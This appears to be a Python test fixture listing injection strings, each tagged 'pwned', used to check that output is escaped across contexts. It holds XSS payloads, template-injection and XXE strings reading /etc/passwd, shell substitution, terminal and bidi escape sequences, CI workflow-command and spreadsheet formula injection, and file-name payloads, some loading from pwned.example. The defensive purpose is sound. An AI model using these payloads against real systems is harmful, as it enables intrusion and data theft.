"""Texts that mean harm, each with `MARK` in it, so that wherever one comes out it is found.

What runs would set `window.pwned`; what is fetched would be fetched from `pwned.example`; what a template works out would be 1337.
"""

from __future__ import annotations

MARK = "pwned"
WORKED_OUT = "1337pwned"
"""What a template language would make of a text."""

SCRIPTS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</template></noscript><script src=//pwned.example></script>",
    "<SCRIPT SRC=//pwned.example/x.js>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<!--<script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "]]><script>window.pwned=1</script>",
    "</script><!--pwned",
    "'-window.pwned=1-'",
    "';window.pwned=1//",
    "\\';window.pwned=1//",
    "${window.pwned=1}",
    "`;window.pwned=1//",
    "}});window.pwned=1;({a:{b:",
)
MARKUP = (
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<iframe src=javascript:parent.pwned=1>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<form action=//pwned.example><button>x</button>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    "<link rel=stylesheet href=//pwned.example>",
    "<style>*{background:url(//pwned.example)}</style>",
    "<object data=//pwned.example></object>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "' onmouseover='window.pwned=1",
    "' autofocus onfocus=window.pwned=1 x='",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "<pwned-element>",
    "<?pwned version='1'?>",
    "<!ENTITY pwned SYSTEM 'file:///etc/passwd'>&pwned;",
    "<!DOCTYPE pwned>",
)
MARKDOWN = (
    "[pwned](javascript:window.pwned=1)",
    "[pwned](//pwned.example)",
    "![pwned](//pwned.example/x.png)",
    "<https://pwned.example>",
    "[pwned]: javascript:window.pwned=1",
    "[pwned][pwned]",
    "# pwned",
    "**pwned** _pwned_ `pwned` ~~pwned~~ ==pwned==",
    "pwned {: onclick=window.pwned=1 }",
    "pwned {#pwned .pwned onclick=window.pwned=1}",
    "pwned | pwned | pwned",
    "- pwned",
    "> pwned",
    "1. pwned",
    "``` pwned",
    "!!! pwned",
    "*[pwned]: <script>window.pwned=1</script>",
    "[^pwned]",
    "--8<-- pwned",
    "::: pwned",
)
TEMPLATES = (
    "{{ 7*191 }}pwned",
    "{% include '/etc/passwd' %}pwned",
    "{{ config.pwned.__class__.__mro__ }}",
    "{% raw %}{{ 7*191 }}pwned",
    "{# pwned #}",
    "#{7*191}pwned",
    "%(pwned)s {pwned} {0} %s %n",
    "$(touch pwned) `touch pwned`",
)
TERMINAL = (
    "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[1;1Hpwned",
    "\x1b[31mpwned",
    "\x1b]8;;https://pwned.example\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31mpwned",
    "\x1bPpwned\x1b\\",
    "pwned\x08\x08\x08\x08\x08clean",
    "pwned\x7f\x00\x0b\x0c\x85",
    "\u202egnp.denwp pwned",
    "\u2066pwned\u2069\u200f\u061c",
    "pwned\u2028::error::pwned\u2029",
    "\ufeffpwned",
)
WORKFLOWS = (
    "::error::pwned",
    "::add-mask::pwned",
    "::stop-commands::pwned",
    "%0A::error::pwned",
    "##[add-mask]pwned",
)
SHEETS = (
    "=HYPERLINK(//pwned.example)",
    "=cmd|' /C calc'!A0 pwned",
    "+1-pwned",
    "-1+pwned",
    "@SUM(1)pwned",
)
GRAPHS = (
    "pwned]; click pwned call x()",
    "pwned --> pwned",
    "pwned\\",
    "pwned end subgraph pwned",
    "%% pwned",
)
TEXTS = (*SCRIPTS, *MARKUP, *MARKDOWN, *TEMPLATES, *TERMINAL, *WORKFLOWS, *SHEETS, *GRAPHS)
"""What can be between the marks of a quotation in a `.case` file."""

QUOTED = (
    "pwned\rclean",
    '"><script>window.pwned=1</script>',
    '" onmouseover="window.pwned=1',
    '";window.pwned=1//',
    '"]; pwned [label="',
    '\\"pwned',
    'pwned"\n::error::pwned\n"',
    "pwned\n\n# pwned\n\n<script>window.pwned=1</script>",
    'pwned"\ncase 9.9 "pwned"\n  may rest',
)
"""What only cells of a ledger, sheets and words of a command line can be."""

FILE_NAMES = (
    "<img src=x onerror=window.pwned=1>.case",
    "pwned\x1b[2J\u202e.case",
    "pwned\n::error::pwned.case",
    '"pwned,line=1::pwned.case',
    "{{ 7*191 }}pwned.case",
    "[pwned](javascript:window.pwned=1).case",
)
